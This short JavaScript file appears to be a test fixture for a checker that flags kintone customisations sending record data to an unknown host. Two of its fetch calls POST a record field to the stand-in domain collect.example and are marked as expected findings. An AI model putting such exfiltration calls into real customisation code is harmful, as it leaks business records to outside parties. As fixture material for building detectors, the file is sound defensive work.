// An address that loses its end keeps its host.
kintone.events.on('app.record.detail.show', (event) => {
  const data = { method: 'POST', body: JSON.stringify(event.record.件名.value) }; // source: record-to-unknown-host
  const own = (location.origin + '/k/v1/').replace(/\/+$/, '');
  fetch(own + '/record.json', data);
  const shorter = `${location.origin}/k/v1/`.slice(0, -1);
  fetch(`${shorter}/record.json`, data);
  const named = (location.origin + '/k/v1/' + event.appId + '/').replace(/\/+$/, '');
  fetch(named + '/record.json', data);
  const other = ('https://collect.example/' + event.appId + '/').replace(/\/+$/, '');
  fetch(other + '/record.json', data); // expect: record-to-unknown-host
  const known = 'https://collect.example//'.replace(/\/+$/, '');
  fetch(known + '/record.json', data); // expect: record-to-unknown-host
});
